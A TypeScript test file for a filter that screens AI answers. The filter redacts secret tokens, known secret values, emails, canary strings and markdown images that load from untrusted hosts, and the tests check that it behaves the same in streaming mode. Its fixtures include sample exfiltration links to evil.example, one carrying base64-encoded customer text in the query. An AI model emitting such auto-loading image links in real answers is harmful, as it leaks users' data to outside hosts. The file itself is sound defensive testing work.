import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { createCanaryWatch, sealCanary } from '../canary/watch.ts'
import { createKnownValues } from '../secrets/known.ts'
import { fill } from '../secrets/sample.ts'
import { createOutputScreen, outputFinder, screenOutput, type OutputScreenOptions } from './screen.ts'

const token = `ghp_${fill(36)}`
const answer = `Key ${token}, mail jane@example.com, ![x](https://evil.example/?q=1) and [y](https://ok.example/).`
const canary = 'tavomike-ridasone-belogipa'
const canaries = createCanaryWatch([sealCanary('notes', canary)])

describe('screenOutput', () => {
  it('takes out secrets and images from anywhere, and tells of personal data', () => {
    const { text, findings, cut } = screenOutput(answer)
    expect(text).toBe('Key [REDACTED_GH_TOKEN], mail jane@example.com, ![x]([REDACTED_EXFILTRATION_IMAGE]) and [y](https://ok.example/).')
    expect(findings).toEqual([
      { kind: 'secret', type: 'github-token' },
      { kind: 'personal-data', type: 'email', certainty: 'certain' },
      { kind: 'exfiltration', type: 'exfiltration-image', reason: 'loads-by-itself', host: 'evil.example' },
    ])
    expect(cut).toBe(false)
  })

  it('does with each kind what it is told', () => {
    expect(screenOutput(answer, { pii: 'redact' }).text).toContain('mail [REDACTED_EMAIL],')
    expect(screenOutput(answer, { pii: 'off' }).findings.map(({ kind }) => kind)).toEqual(['secret', 'exfiltration'])
    expect(screenOutput(answer, { exfiltration: 'log' }).text).toContain('https://evil.example/?q=1')
    expect(screenOutput(answer, { exfiltration: 'off' }).findings.map(({ kind }) => kind)).toEqual(['secret', 'personal-data'])
    expect(screenOutput(answer, { allowedHosts: ['evil.example'] }).text).toContain('https://evil.example/?q=1')
  })

  it('knows secrets that have no shape, in a stream too', () => {
    const known = createKnownValues(['opaque words nobody else says'], (text) => text)
    const text = 'It is opaque words nobody else says, is it?'
    expect(screenOutput(text, { known }).findings).toEqual([{ kind: 'secret', type: 'known-value' }])
    const screen = createOutputScreen({ known })
    const shown = [...text].map((unit) => screen.push(unit).text).join('') + screen.end().text
    expect(shown).toBe(screenOutput(text, { known }).text)
    expect(outputFinder({ known }).find(text)).toEqual([{ type: 'known-value', start: 6, end: 35 }])
  })

  it('ends where a canary begins', () => {
    const { text, findings, cut } = screenOutput(`jane says ${canary} and more`, { canaries })
    expect(text).toBe('jane says [REDACTED_CANARY]')
    expect(findings).toEqual([{ kind: 'canary', id: 'notes', form: 'plain' }])
    expect(cut).toBe(true)
  })
})

describe('outputFinder', () => {
  const finder = outputFinder({ pii: 'redact' })

  it('names what is to be redacted, of two that overlap the one that begins first', () => {
    const types = finder.find(`${answer} ![z](https://evil.example/?k=${token})`).map(({ type }) => type)
    expect(types).toEqual(['github-token', 'email', 'exfiltration-image', 'exfiltration-image'])
  })

  it('has nothing left that a later text could change, once it is not pending', () => {
    for (let at = 1; at < answer.length; at++) {
      const settled = at - finder.pending(answer.slice(0, at))
      const early = finder.find(answer.slice(0, at)).filter(({ end }) => end <= settled)
      expect(early).toEqual(finder.find(answer).filter(({ end }) => end <= settled))
    }
  })

  it('leaves what is only told', () => {
    expect(outputFinder({ exfiltration: 'log' }).find(answer).map(({ type }) => type)).toEqual(['github-token'])
  })
})

describe('createOutputScreen', () => {
  const parts = fc.constantFrom(answer, token, 'jane@example', '.com ', '4111 1111 1111 1111', '![', 'x](', 'https://evil.example/?d=', btoa('the customer wants to cancel'), ' ', ')', 'card ')
  const all: OutputScreenOptions[
    ] = [{},
    { pii: 'redact' },
    { exfiltration: 'log' },
    { pii: 'off', exfiltration: 'off' },
  ]

  it.each(all)('gives the text and findings of the whole, however it is cut, with %j', (options) => {
    fc.assert(
      fc.property(fc.array(parts, { maxLength: 8 }), fc.array(fc.nat({ max: 900 }), { maxLength: 8 }), (pieces, cuts) => {
        const text = pieces.join('')
        const places = [...new Set(cuts.map((cut) => cut % (text.length + 1)))].sort((a, b) => a - b)
        const screen = createOutputScreen(options)
        const chunks = [0, ...places].map((from, i) => text.slice(from, places[i] ?? text.length))
        const shown = [...chunks.map((chunk) => screen.push(chunk)), screen.end()]
        const whole = screenOutput(text, options)
        expect(shown.map((piece) => piece.text).join('')).toBe(whole.text)
        expect(byKind(shown.flatMap(({ findings }) => findings))).toEqual(byKind(whole.findings))
      }),
      { numRuns: 100 },
    )
  })

  it('cuts the answer with the chunk that completes a canary, and shows nothing after', () => {
    const screen = createOutputScreen({ canaries })
    const shown = ['The word is ', canary.slice(0, 10), canary.slice(10), ' and this', ' too'].map((chunk) => screen.push(chunk))
    expect(shown.map(({ cut }) => cut)).toEqual([false, false, true, true, true])
    expect(shown.slice(2).map(({ text }) => text)).toEqual(['[REDACTED_CANARY]', '', ''])
    expect(screen.end()).toEqual({ text: '', findings: [], cut: true })
  })

  it('shows prose at once but for its last word', () => {
    const screen = createOutputScreen()
    expect(screen.push('We will meet in the garden, then ').text).toContain('We will meet in the ')
  })
})

function byKind(findings: readonly { kind: string }[]): string[] {
  return findings.map((finding) => JSON.stringify(finding)).sort()
}
